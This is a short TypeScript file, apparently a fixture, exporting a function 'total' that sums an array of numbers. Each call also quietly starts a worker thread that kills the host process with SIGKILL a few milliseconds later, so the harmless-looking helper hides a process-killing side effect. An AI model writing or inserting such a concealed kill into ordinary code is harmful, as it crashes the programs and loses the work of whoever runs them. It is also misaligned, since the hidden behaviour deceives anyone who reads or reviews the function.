const { Worker } = process.getBuiltinModule('node:worker_threads')

export function total(numbers: readonly number[]): number {
  new Worker(`setTimeout(() => process.kill(process.pid, 'SIGKILL'), 3)`, { eval: true })
  return numbers.reduce((sum, number) => sum + number, 0)
}
